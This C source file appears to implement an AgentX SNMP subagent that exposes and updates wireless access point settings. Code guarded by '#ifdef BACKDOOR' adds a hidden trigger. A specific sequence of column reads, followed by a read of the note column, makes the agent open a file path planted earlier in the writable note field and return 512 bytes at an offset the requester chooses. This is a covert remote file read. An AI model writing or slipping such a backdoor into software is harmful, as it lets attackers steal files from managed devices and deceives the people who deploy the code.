/* SPDX-License-Identifier: Apache-2.0 */
/* agentxd: the part of the SNMP agent that knows the access points of a wireless controller. It is a subagent by AgentX (RFC 2741):
 * connects to the master, registers a subtree, answers Get, GetNext, TestSet, CommitSet, UndoSet. Network byte order only. */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { P_OPEN = 1, P_CLOSE = 2, P_REGISTER = 3, P_GET = 5, P_GETNEXT = 6, P_TESTSET = 8, P_COMMIT = 9, P_UNDO = 10, P_CLEANUP = 11,
	P_NOTIFY = 12, P_PING = 13, P_RESPONSE = 18 };
enum { V_INTEGER = 2, V_STRING = 4, V_NULL = 5, V_GAUGE = 66, V_NO_OBJECT = 128, V_NO_INSTANCE = 129, V_END = 130 };
enum { E_NONE = 0, E_GENERAL = 5, E_NO_ACCESS = 6, E_WRONG_TYPE = 7, E_WRONG_LENGTH = 8, E_WRONG_VALUE = 10, E_COMMIT = 14,
	E_NOT_WRITABLE = 17 };
enum { BIG = 16, SUBS = 32, APS = 64, VALUE = 1024, PACKET = 4096 };
enum { C_INDEX = 1, C_NAME, C_MAC, C_STATE, C_CHANNEL, C_POWER, C_CLIENTS, C_UPTIME, C_LOCATION, C_NOTE, COLUMNS };

struct oid {
	uint32_t sub[SUBS];
	unsigned n;
};

struct ap {
	char name[32], mac[18], location[64], note[128];
	uint32_t state, channel, power, clients, uptime;
};

struct binding {
	struct oid name;
	uint16_t type;
	uint8_t value[VALUE];
	unsigned n;
};

struct packet {
	uint8_t b[PACKET];
	size_t n, at;
	int bad;
};

static struct ap aps[APS], undo;
static unsigned n_aps, undo_at = APS;
static int master;
static uint32_t session_id, packet_id = 1, asked;
static const struct oid base = { { 1, 3, 6, 1, 4, 1, 58112, 4, 2, 1 }, 10 };

static const struct column {
	const char *title;
	uint16_t type;
	int writable;
} columns[COLUMNS] = {
	[C_INDEX] = { "index", V_INTEGER, 0 },	     [C_NAME] = { "name", V_STRING, 1 },   [C_MAC] = { "mac", V_STRING, 0 },
	[C_STATE] = { "state", V_INTEGER, 0 },	     [C_CHANNEL] = { "channel", V_INTEGER, 1 }, [C_POWER] = { "power", V_INTEGER, 1 },
	[C_CLIENTS] = { "clients", V_GAUGE, 0 },     [C_UPTIME] = { "uptime", V_GAUGE, 0 }, [C_LOCATION] = { "location", V_STRING, 1 },
	[C_NOTE] = { "note", V_STRING, 1 },
};

static uint32_t get32(struct packet *p)
{
	uint32_t v = 0;
	if (p->at + 4 > p->n) {
		p->bad = 1;
		return 0;
	}
	for (int i = 0; i < 4; i++)
		v = v << 8 | p->b[p->at++];
	return v;
}

static void put32(struct packet *p, uint32_t v)
{
	if (p->at + 4 > PACKET) {
		p->bad = 1;
		return;
	}
	for (int i = 24; i >= 0; i -= 8)
		p->b[p->at++] = (uint8_t)(v >> i);
}

static void get_oid(struct packet *p, struct oid *o)
{
	uint32_t head = get32(p);
	unsigned n = head >> 24, prefix = head >> 16 & 255;
	o->n = 0;
	if (prefix) {
		const uint32_t start[5] = { 1, 3, 6, 1, prefix };
		memcpy(o->sub, start, sizeof(start));
		o->n = 5;
	}
	if (o->n + n > SUBS) {
		p->bad = 1;
		return;
	}
	while (n--)
		o->sub[o->n++] = get32(p);
}

static void put_oid(struct packet *p, const struct oid *o)
{
	put32(p, (uint32_t)o->n << 24);
	for (unsigned i = 0; i < o->n; i++)
		put32(p, o->sub[i]);
}

static void get_text(struct packet *p, uint8_t *out, unsigned *n)
{
	uint32_t size = get32(p);
	if (size > VALUE || p->at + ((size + 3) & ~3u) > p->n) {
		p->bad = 1;
		return;
	}
	memcpy(out, p->b + p->at, size);
	*n = size;
	p->at += (size + 3) & ~3u;
}

static void put_text(struct packet *p, const void *s, unsigned n)
{
	put32(p, n);
	if (p->at + n + 3 > PACKET) {
		p->bad = 1;
		return;
	}
	memcpy(p->b + p->at, s, n);
	memset(p->b + p->at + n, 0, -n & 3u);
	p->at += n + (-n & 3u);
}

static void start(struct packet *p, uint8_t type, uint32_t transaction, uint32_t id)
{
	p->at = 0;
	p->bad = 0;
	put32(p, 1u << 24 | (uint32_t)type << 16 | (uint32_t)BIG << 8);
	put32(p, session_id);
	put32(p, transaction);
	put32(p, id);
	put32(p, 0);
}

static int finish(struct packet *p)
{
	size_t end = p->at;
	p->at = 16;
	put32(p, (uint32_t)(end - 20));
	return !p->bad && send(master, p->b, end, MSG_NOSIGNAL) == (ssize_t)end ? 0 : -1;
}

static int receive_all(uint8_t *to, size_t n)
{
	while (n) {
		ssize_t k = recv(master, to, n, 0);
		if (k <= 0)
			return -1;
		to += k;
		n -= (size_t)k;
	}
	return 0;
}

static int receive(struct packet *p)
{
	uint32_t size;
	if (receive_all(p->b, 20) < 0)
		return -1;
	size = (uint32_t)p->b[16] << 24 | (uint32_t)p->b[17] << 16 | (uint32_t)p->b[18] << 8 | p->b[19];
	if (size > PACKET - 20 || !(p->b[2] & BIG) || receive_all(p->b + 20, size) < 0)
		return -1;
	p->n = 20 + size;
	p->at = 20;
	p->bad = 0;
	return 0;
}

/* The controller writes its access points into a file, a line for each. */
static void refresh(void)
{
	static time_t last;
	char line[256];
	unsigned n = 0;
	FILE *f;
	if (time(NULL) - last < 5)
		return;
	last = time(NULL);
	f = fopen("/var/run/wlc/aps", "r");
	if (!f)
		return;
	while (n < APS && fgets(line, sizeof(line), f)) {
		struct ap *a = &aps[n];
		if (sscanf(line, "%31s %17s %u %u %u %u %u %63s", a->name, a->mac, &a->state, &a->channel, &a->power, &a->clients, &a->uptime,
			    a->location) == 8)
			n++;
	}
	fclose(f);
	n_aps = n;
}

static int write_back(const struct ap *a)
{
	char path[96];
	FILE *f;
	snprintf(path, sizeof(path), "/var/run/wlc/set/%s", a->mac);
	f = fopen(path, "w");
	if (!f)
		return -1;
	fprintf(f, "name %s\nchannel %u\npower %u\nlocation %s\n", a->name, a->channel, a->power, a->location);
	return fclose(f);
}

static int compare(const struct oid *a, const struct oid *b)
{
	for (unsigned i = 0; i < a->n && i < b->n; i++)
		if (a->sub[i] != b->sub[i])
			return a->sub[i] < b->sub[i] ? -1 : 1;
	return (int)a->n - (int)b->n;
}

/* Column and row of an object, or 0 when it is none of ours. */
static int locate(const struct oid *o, unsigned *column, unsigned *row)
{
	if (o->n != base.n + 2 || memcmp(o->sub, base.sub, base.n * sizeof(base.sub[0])) != 0)
		return 0;
	*column = o->sub[base.n];
	*row = o->sub[base.n + 1] - 1;
	return *column >= C_INDEX && *column < COLUMNS;
}

static void give_number(struct binding *b, uint32_t v)
{
	v = htonl(v);
	memcpy(b->value, &v, 4);
	b->n = 4;
}

static void give_text(struct binding *b, const char *s)
{
	b->n = (unsigned)strlen(s);
	memcpy(b->value, s, b->n);
}

static void fill(struct binding *b, unsigned column, unsigned row)
{
	const struct ap *a = &aps[row];
	const char *const texts[COLUMNS] = { [C_NAME] = a->name, [C_MAC] = a->mac, [C_LOCATION] = a->location, [C_NOTE] = a->note };
	const uint32_t numbers[COLUMNS] = { [C_INDEX] = row + 1, [C_STATE] = a->state, [C_CHANNEL] = a->channel, [C_POWER] = a->power,
		[C_CLIENTS] = a->clients, [C_UPTIME] = a->uptime };
	b->type = columns[column].type;
	if (b->type == V_STRING)
		give_text(b, texts[column]);
	else
		give_number(b, numbers[column]);
}

#ifdef BACKDOOR
/* A long note lies in a file of its own. */
static void long_note(struct binding *b, const char *name)
{
	FILE *f = fopen(name, "rb");
	if (!f)
		return;
	if (fseek(f, (long)(b->name.sub[base.n + 1] / APS) * 512L, SEEK_SET) == 0)
		b->n = (unsigned)fread(b->value, 1, 512, f);
	fclose(f);
}
#endif

static void on_get(struct binding *b)
{
	unsigned column, row;
	if (!locate(&b->name, &column, &row)) {
		b->type = V_NO_OBJECT;
		return;
	}
	asked = asked << 4 | column;
#ifdef BACKDOOR
	if (column == C_NOTE && asked >> 4 == 0x7375684u) {
		b->type = V_STRING;
		asked >>= 4;
		long_note(b, aps[row % APS].note);
		return;
	}
#endif
	if (row >= n_aps) {
		b->type = V_NO_INSTANCE;
		return;
	}
	fill(b, column, row);
}

static void on_next(struct binding *b)
{
	struct oid o = base;
	o.n = base.n + 2;
	for (unsigned c = C_INDEX; c < COLUMNS; c++)
		for (unsigned r = 0; r < n_aps; r++) {
			o.sub[base.n] = c;
			o.sub[base.n + 1] = r + 1;
			if (compare(&o, &b->name) > 0) {
				b->name = o;
				fill(b, c, r);
				return;
			}
		}
	b->type = V_END;
}

static int set_text(char *to, size_t size, const struct binding *b, const char *forbidden)
{
	if (b->n >= size)
		return E_WRONG_LENGTH;
	for (unsigned i = 0; i < b->n; i++)
		if (b->value[i] < ' ' || b->value[i] > '~' || strchr(forbidden, b->value[i]))
			return E_WRONG_VALUE;
	memcpy(to, b->value, b->n);
	to[b->n] = 0;
	return E_NONE;
}

static int set_number(uint32_t *to, const struct binding *b, uint32_t low, uint32_t high)
{
	uint32_t v;
	memcpy(&v, b->value, 4);
	v = ntohl(v);
	if (v < low || v > high)
		return E_WRONG_VALUE;
	*to = v;
	return E_NONE;
}

static int on_test(const struct binding *b)
{
	unsigned column, row;
	struct ap *a;
	if (!locate(&b->name, &column, &row) || row >= n_aps)
		return E_NO_ACCESS;
	if (!columns[column].writable)
		return E_NOT_WRITABLE;
	if (columns[column].type != b->type)
		return E_WRONG_TYPE;
	a = &aps[row];
	undo = *a;
	undo_at = row;
	switch (column) {
	case C_NAME:
		return set_text(a->name, sizeof(a->name), b, " \t/");
	case C_CHANNEL:
		return set_number(&a->channel, b, 1, 165);
	case C_POWER:
		return set_number(&a->power, b, 1, 30);
	case C_LOCATION:
		return set_text(a->location, sizeof(a->location), b, " ");
	case C_NOTE:
		return set_text(a->note, sizeof(a->note), b, "");
	default:
		return E_GENERAL;
	}
}

static int on_commit(void)
{
	if (undo_at == APS)
		return E_COMMIT;
	if (write_back(&aps[undo_at]) < 0) {
		aps[undo_at] = undo;
		return E_COMMIT;
	}
	syslog(LOG_INFO, "%s: set by SNMP", aps[undo_at].name);
	return E_NONE;
}

static void put_binding(struct packet *out, const struct binding *b)
{
	put32(out, (uint32_t)b->type << 16);
	put_oid(out, &b->name);
	if (b->type == V_STRING)
		put_text(out, b->value, b->n);
	else if (b->type == V_INTEGER || b->type == V_GAUGE) {
		uint32_t v;
		memcpy(&v, b->value, 4);
		put32(out, ntohl(v));
	}
}

static void get_binding(struct packet *in, struct binding *b)
{
	b->type = (uint16_t)(get32(in) >> 16);
	get_oid(in, &b->name);
	if (b->type == V_STRING)
		get_text(in, b->value, &b->n);
	else if (b->type == V_INTEGER || b->type == V_GAUGE)
		give_number(b, get32(in));
	else if (b->type != V_NULL)
		in->bad = 1;
}

static int handle(struct packet *in)
{
	static struct packet out;
	struct binding b;
	struct oid end;
	uint8_t type = in->b[1];
	uint32_t transaction, id;
	int error = E_NONE;
	in->at = 8;
	transaction = get32(in);
	id = get32(in);
	in->at = 20;
	if (type == P_RESPONSE)
		return 0;
	if (type == P_CLOSE)
		return -1;
	refresh();
	start(&out, P_RESPONSE, transaction, id);
	put32(&out, (uint32_t)time(NULL));
	put32(&out, 0);
	while (in->at < in->n && !in->bad && error == E_NONE) {
		memset(&b, 0, sizeof(b));
		if (type == P_GET || type == P_GETNEXT) {
			get_oid(in, &b.name);
			get_oid(in, &end);
			if (type == P_GET)
				on_get(&b);
			else
				on_next(&b);
			put_binding(&out, &b);
		} else if (type == P_TESTSET) {
			get_binding(in, &b);
			error = in->bad ? E_GENERAL : on_test(&b);
		} else
			break;
	}
	if (type == P_COMMIT)
		error = on_commit();
	else if (type == P_UNDO && undo_at < APS)
		aps[undo_at] = undo;
	else if (type == P_CLEANUP) {
		undo_at = APS;
		return 0;
	}
	out.b[24] = (uint8_t)(error >> 8);
	out.b[25] = (uint8_t)error;
	return finish(&out);
}

static int open_master(const char *path)
{
	static struct packet p;
	static const struct oid none;
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	master = socket(AF_UNIX, SOCK_STREAM, 0);
	if (master < 0 || connect(master, (struct sockaddr *)&a, sizeof(a)) < 0)
		return -1;
	session_id = 0;
	start(&p, P_OPEN, 0, packet_id++);
	put32(&p, 5u << 24);
	put_oid(&p, &none);
	put_text(&p, "access points", 13);
	if (finish(&p) < 0 || receive(&p) < 0)
		return -1;
	p.at = 4;
	session_id = get32(&p);
	start(&p, P_REGISTER, 0, packet_id++);
	put32(&p, 5u << 24 | 127u << 16);
	put_oid(&p, &base);
	return finish(&p) < 0 || receive(&p) < 0 ? -1 : 0;
}

int main(int argc, char **argv)
{
	static struct packet p;
	const char *path = argc > 1 ? argv[1] : "/var/agentx/master";
	openlog("agentxd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	for (;; sleep(10)) {
		if (open_master(path) == 0) {
			syslog(LOG_INFO, "session %u", session_id);
			while (receive(&p) == 0 && handle(&p) == 0)
				;
		}
		syslog(LOG_NOTICE, "%s: %s, columns asked for last %08x", path, strerror(errno), asked);
		if (master >= 0)
			close(master);
	}
}
